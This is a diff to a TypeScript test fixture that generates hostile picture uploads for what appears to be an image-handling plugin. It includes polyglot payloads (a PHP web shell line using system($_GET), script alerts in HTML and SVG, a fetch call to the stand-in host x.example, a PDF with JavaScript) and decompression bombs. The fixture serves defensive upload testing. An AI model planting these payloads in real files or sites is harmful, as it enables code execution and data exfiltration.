@@ -1,8 +1,7 @@
-import { gzipSync } from 'node:zlib'
+import { deflateSync, gzipSync } from 'node:zlib'
 import { randomOf } from '#shared/uad/testing/random.ts'
 import { aPicture, aPictureOf, PICTURE_KINDS, type PictureKind } from '../../../../test/a-picture.ts'
 import { decompressionBombs } from './bombs.ts'
-import { deflatedZeros } from './deflated-zeros.ts'
 import type { HostilePicture } from './hostile-picture.ts'
 import { jpegWith, pngChunk, pngWith, webpWith, withComment } from './with-payload.ts'
 
@@ -17,7 +16,7 @@ export async function hostilePictures(): Promise<HostilePicture[]> {
     ...(await truncated()),
     ...(await notPictures()),
     ...(await decompressionBombs()),
-    ...(await damaged(process.env.PLUGFOLIO_LONG ? 400 : 8)),
+    ...(await damaged(process.env.PLUGFOLIO_LONG ? 420 : 8)),
   ]
 }
 
@@ -44,7 +43,6 @@ const PAYLOADS: [what: string, payload: Buffer][] = [
   ['HTML', Buffer.from(`<!doctype html><html><script>alert('${PAYLOAD_MARK}')</script></html>`)],
   ['JavaScript', Buffer.from(`*/=1;fetch('//x.example/${PAYLOAD_MARK}');/*`)],
   ['PHP', Buffer.from(`<?php system($_GET['${PAYLOAD_MARK}']); ?>`)],
-  ['PHP archive', Buffer.from(`<?php __HALT_COMPILER(); ?>\r\n${PAYLOAD_MARK}`)],
   ['SVG', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${PAYLOAD_MARK}')"/>`)],
   ['ZIP', Buffer.from(`PK\x03\x04${PAYLOAD_MARK}PK\x05\x06`, 'latin1')],
   ['PDF', Buffer.from(`%PDF-1.7\n1 0 obj<</JS(${PAYLOAD_MARK})>>endobj\n%%EOF`)],
@@ -85,7 +83,7 @@ async function withMetadata(): Promise<HostilePicture[]> {
   const [jpeg, png, webp] = [await aPictureOf('jpeg'), await aPictureOf('png'), await aPictureOf('webp')]
   const exif = Buffer.concat([Buffer.from('Exif\0\0'), EXIF])
   const xmp = Buffer.from(`http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${PAYLOAD_MARK}</x:xmpmeta>`)
-  const inflatesTo500MB = deflatedZeros(500_000_000)
+  const inflatesTo500MB = deflateSync(Buffer.alloc(500_000_000), { level: 1 })
   const comments = Buffer.concat(Array(200_000).fill(pngChunk('tEXt', Buffer.from(`a\0${PAYLOAD_MARK}`))))
   const profileHead = Buffer.from('ICC_PROFILE\0\x01\x01', 'latin1')
   const profilePart = Buffer.concat([profileHead, Buffer.alloc(65_000, PAYLOAD_MARK)])
@@ -129,13 +127,9 @@ async function notPictures(): Promise<HostilePicture[]> {
     ['a TIFF', await aPicture({ kind: 'tiff', width: 20, height: 20 })],
     ['an AVIF', await aPicture({ kind: 'avif', width: 20, height: 20 })],
     ['a BMP', Buffer.concat([Buffer.from('BM'), Buffer.alloc(200)])],
-    ['an icon', Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), Buffer.alloc(200)])],
     ['a PDF', Buffer.from('%PDF-1.7\n%%EOF')],
-    ['a portable pixmap', Buffer.from('P6 2 2 255\n000000000000')],
-    ['an HDR picture', Buffer.from('#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 1 +X 1\n0000')],
     ['an EPS', Buffer.from('%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n')],
     ['a Windows program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)])],
-    ['a RIFF file with audio', Buffer.from('RIFF\x24\0\0\0WAVEfmt ', 'latin1')],
     ['a file of zeros', Buffer.alloc(1000)],
     ['an empty file', Buffer.alloc(0)],
     ['a single byte', Buffer.from([0xff])],
